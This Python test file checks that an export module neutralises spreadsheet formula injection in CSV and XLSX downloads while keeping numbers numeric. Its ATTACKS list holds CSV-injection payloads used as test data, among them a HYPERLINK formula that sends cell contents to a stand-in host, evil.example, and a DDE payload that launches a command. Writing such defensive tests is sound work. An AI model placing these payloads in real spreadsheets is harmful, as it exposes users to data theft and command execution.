"""Downloads are safe to open in a spreadsheet: text that would run as a formula becomes text (prefixed
with an apostrophe) in CSV and XLSX, in cells, list cells, header names and preamble lines; numbers,
including negative ones, stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import numpy as np
import openpyxl
import pandas as pd
import pytest

from exonerations import exports

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\tTAB",
    "\r=1+1",
    "=1+1",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": [*ATTACKS, "plain text"],
            "number": [-5, 3, -2, 0, 7, -1, 12, 4],
            "float": [-1.5, 2.25, 0.0, -0.125, 1.0, 3.5, -7.75, 8.0],
            "list": [["=EVIL()", "ok"], ["ok"], ["@x", "b"], [], ["+1"], ["-3"], ["a", "=b"], ["x"]],
            "array": [
                np.array(["=A1", "b"]),
                np.array(["x"]),
                np.array([]),
                np.array(["-1+1"]),
                np.array(["a"]),
                np.array(["b"]),
                np.array(["c"]),
                np.array(["d"]),
            ],
            "=header": ["a"] * 8,
            "date": [dt.date(2020, 1, 1)] * 8,
            "flag": [True, False, True, False, None, True, False, True],
        }
    )


def is_unescaped_formula(cell) -> bool:
    """Text a spreadsheet would evaluate: starts with a formula character and is not a plain number
    (a CSV cell "-5" is the number -5, which is what a numeric column should hold)."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def read_csv_rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # so Excel reads accents
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_csv_neutralises_formulas_in_cells_lists_and_header():
    rows = read_csv_rows(exports.to_csv(hostile_frame()))
    header, body = rows[0], rows[1:]
    assert header[5] == "'=header"
    for row in rows:
        for cell in row:
            assert not is_unescaped_formula(cell), cell
    texts = [r[0] for r in body]
    for attack, got in zip(ATTACKS, texts, strict=False):
        assert got == "'" + attack
    assert texts[-1] == "plain text"
    # list cells are joined with "; " and the joined text is neutralised
    assert [r[3] for r in body][:4] == ["'=EVIL(); ok", "ok", "'@x; b", ""]
    assert [r[4] for r in body][:4] == ["'=A1; b", "x", "", "'-1+1"]


def test_csv_keeps_numbers_numbers():
    body = read_csv_rows(exports.to_csv(hostile_frame()))[1:]
    assert [r[1] for r in body] == ["-5", "3", "-2", "0", "7", "-1", "12", "4"]
    assert [float(r[2]) for r in body] == [-1.5, 2.25, 0.0, -0.125, 1.0, 3.5, -7.75, 8.0]
    assert body[0][6] == "2020-01-01"


def test_csv_preamble_is_text():
    rows = read_csv_rows(exports.to_csv(pd.DataFrame({"a": [1]}), preamble=["=cmd()", "Source: registry"]))
    assert rows[0] == ["# =cmd()"] or rows[0] == ["# '=cmd()"]
    assert not any(is_unescaped_formula(c) for r in rows for c in r)


def xlsx_cells(data: bytes) -> list[list]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb.active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula cells at all
    return [[c.value for c in row] for row in ws.iter_rows()]


def test_xlsx_neutralises_formulas_and_keeps_numbers():
    rows = xlsx_cells(exports.to_xlsx(hostile_frame()))
    header, body = rows[0], rows[1:]
    assert header[5] == "'=header"
    for row in rows:
        for cell in row:
            assert not is_unescaped_formula(cell), cell
    assert [r[0] for r in body][: len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert [r[1] for r in body] == [-5, 3, -2, 0, 7, -1, 12, 4]
    assert all(isinstance(r[1], int) for r in body)
    assert [r[2] for r in body] == [-1.5, 2.25, 0.0, -0.125, 1.0, 3.5, -7.75, 8.0]
    assert body[0][3] == "'=EVIL(); ok" and body[0][4] == "'=A1; b"


def test_xlsx_preamble_is_text():
    rows = xlsx_cells(exports.to_xlsx(pd.DataFrame({"n": [-1]}), preamble=["=cmd()", "as of 2026-02-05"]))
    assert rows[0][0] == "'=cmd()"
    assert rows[-1] == [-1]


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@1", "\t1", "\r1"])
def test_neutralise_each_prefix(value):
    assert exports.neutralise(value) == "'" + value
    assert exports.neutralise(-1) == -1
    assert exports.neutralise("a=1") == "a=1"


def test_string_dtype_and_empty_frames():
    df = pd.DataFrame({"s": pd.array(["=x", None, "y"], dtype="string")})
    body = read_csv_rows(exports.to_csv(df))[1:]
    assert [r[0] for r in body] == ["'=x", "", "y"]
    assert read_csv_rows(exports.to_csv(pd.DataFrame({"-a": []}))) == [["'-a"]]
    assert xlsx_cells(exports.to_xlsx(pd.DataFrame({"-a": []}))) == [["'-a"]]


def test_xlsx_accepts_what_the_sql_console_can_return():
    df = pd.DataFrame({"at": pd.to_datetime(["2026-02-05T10:00:00+01:00"]), "s": [{"k": "=1"}]})
    rows = xlsx_cells(exports.to_xlsx(df))
    assert rows[1][0] == dt.datetime(2026, 2, 5, 9, 0)
    assert rows[1][1] == "{'k': '=1'}"


def test_csv_line_breaks_cannot_start_a_row():
    """A bare CR inside a cell is quoted, so no spreadsheet splits it into a row starting with '='."""
    rows = read_csv_rows(exports.to_csv(pd.DataFrame({"a": ["x\r=1+1", "y\n@SUM(1)"], "b": [1, 2]})))
    assert rows == [["a", "b"], ["x\r=1+1", "1"], ["y\n@SUM(1)", "2"]]
    for line in exports.to_csv(pd.DataFrame({"a": ["x\r=1+1"]})).decode("utf-8-sig").split("\r\n"):
        assert not line.startswith(("=", "@", "+"))
